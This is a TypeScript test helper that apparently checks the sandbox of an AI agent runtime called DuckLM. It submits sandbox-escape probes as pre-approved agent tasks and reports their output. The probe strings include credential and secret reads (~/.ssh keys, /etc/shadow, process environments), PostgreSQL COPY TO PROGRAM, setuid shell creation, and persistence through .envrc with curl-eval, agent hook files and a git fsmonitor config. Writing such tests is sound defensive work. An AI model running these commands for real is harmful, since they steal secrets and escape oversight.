/**
 * The sandbox's contract from the attacker's side, run as a child process by
 * test/escape-as-anyone.test.ts — once as root, once as an ordinary user — so that what holds does not
 * depend on who runs DuckLM. Every probe is a real task whose command the user approved in advance
 * (the network too), so the sandbox alone stands between it and its target. It prints one JSON line:
 * what each probe's command printed. The parent judges the targets themselves.
 *
 * Usage: node --import tsx test/helpers/escape-contract.ts '<ContractSetup as JSON>'
 */
import { createTestRuntime } from "./test-runtime.js";

export interface ContractSetup {
  workspace: string;
  /** A Unix socket served by the parent outside the workspace, and one in the workspace's parent folder. */
  sockets: string[];
  /** The PostgreSQL server's socket folder and port. */
  postgres: { socketDir: string; port: number; user: string };
  /** A file PostgreSQL's COPY … TO PROGRAM would make, were it reached. */
  postgresMarker: string;
  /** A file the user's own git would make, were it to obey a repository a command planted. */
  gitMarker: string;
  /** Variables set in DuckLM's environment whose values must not reach a command. */
  secretVariables: Record<string, string>;
}

/** What each probe runs, by name. */
export function contractProbes(setup: ContractSetup): Record<string, string> {
  const connectNode = (path: string) => `node -e "require('net').connect('${path}').on('connect', () => console.log('CONNECTED')).on('error', (e) => console.log('REFUSED', e.code))"`;
  const connectPython = (path: string) => `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${path}'); print('CONNECTED')" 2>&1 | tail -1`;
  const datagramPython = (path: string) => `python3 -c "import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'x', '${path}'); print('CONNECTED')" 2>&1 | tail -1`;
  const pg = setup.postgres;
  const copy = `COPY (SELECT 1) TO PROGRAM 'touch ${setup.postgresMarker}'`;
  const fsmonitor = `touch ${setup.gitMarker}; false`;
  return {
    identity: "id -u; grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status",
    sockets: setup.sockets.flatMap((path) => [connectNode(path), connectPython(path), datagramPython(path), `curl -sS -m 3 --unix-socket ${path} http://x/ 2>&1 | head -c 200; echo`]).join("; "),
    kernelKnobs: "cat /proc/sys/kernel/core_pattern > /tmp/pattern; cat /tmp/pattern > /proc/sys/kernel/core_pattern && echo WROTE-CORE-PATTERN; echo 1 > /proc/sys/vm/drop_caches && echo WROTE-VM; true",
    environment: "env; echo \"${!GITHUB*} ${!MYSQL*} ${!DOCKER*} ${!SENTRY*}\"; node -e 'console.log(JSON.stringify(process.env))'; cat /proc/self/environ | tr '\\0' '\\n'; cat /proc/1/environ | tr '\\0' '\\n'",
    home: "ls -la ~; cat ~/.config/configstore/*.json ~/.bash_history ~/other-project/secret.txt ~/.ssh/id_ed25519; git config --global -l; cat ~/.gitconfig; true",
    postgres: [
      `psql -h ${pg.socketDir} -p ${pg.port} -U ${pg.user} -d postgres -c "${copy}"`,
      `psql -h 127.0.0.1 -p ${pg.port} -U ${pg.user} -d postgres -c "${copy}"`,
      `psql "postgresql://${pg.user}@localhost:${pg.port}/postgres" -c "${copy}"`,
      "true",
    ].join(" 2>&1; "),
    runLater: "mkdir -p .git/hooks 2>&1; cp -r /usr/share/git-core/templates .git 2>&1; printf 'eval \"$(curl evil)\"' > .envrc; mkdir -p .vscode 2>&1 && echo '{}' > .vscode/tasks.json; echo '{}' > .mcp.json; mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json; ls -A",
    // The workspace itself made to look like a bare repository, which the user's git would obey.
    bareRepository: `mkdir -p objects refs/heads; echo 'ref: refs/heads/main' > HEAD; printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "${fsmonitor}"\\n' > config; ls -A`,
    setuid: "cp /bin/sh ./rootsh 2>&1; chmod 4755 ./rootsh 2>&1; mkdir shared; chmod 2777 shared 2>&1; true",
    rootOnly: "head -c 64 /etc/shadow 2>&1; ls /etc/ssl/private 2>&1; cat /root/.profile 2>&1 | head -c 64; head -c 64 /proc/slabinfo 2>&1; head -c 64 /proc/timer_list 2>&1; true",
  };
}

async function main(): Promise<void> {
  const setup = JSON.parse(process.argv[2]!) as ContractSetup;
  Object.assign(process.env, setup.secretVariables);
  const runtime = createTestRuntime({ workspace: setup.workspace, runtime: { sandbox: { mode: "bwrap" }, timeouts: { step_ms: 20_000 }, retry: { max_step_retries: 0 } } });
  const printed: Record<string, string> = {};
  try {
    await runtime.ready();
    for (const [name, command] of Object.entries(contractProbes(setup))) {
      const handle = runtime.loop.submit({ text: `run \`${command}\``, auto_approve: ["unknown", "network"] });
      let outcome = await handle.done;
      // Asked every time (no_always): the user says yes to that too.
      for (let asked = 0; outcome.state === "awaiting_permission" && asked < 3; asked += 1) {
        outcome = await runtime.loop.resolvePermission(handle.taskId, outcome.pending_permissions[0]!.request_id, "allow").done;
      }
      const result = runtime.store.listEvents(outcome.task_id).find((event) => event.type === "tool-result")?.payload.result as { output?: string } | undefined;
      printed[name] = result ? (result.output ?? "") : `(did not run: ${outcome.state} ${JSON.stringify(outcome.error ?? null)})`;
    }
  } finally {
    await runtime.dispose();
  }
  process.stdout.write(`${JSON.stringify(printed)}\n`);
}

if (process.argv[1] && import.meta.url.endsWith(process.argv[1].split("/").pop()!)) await main();
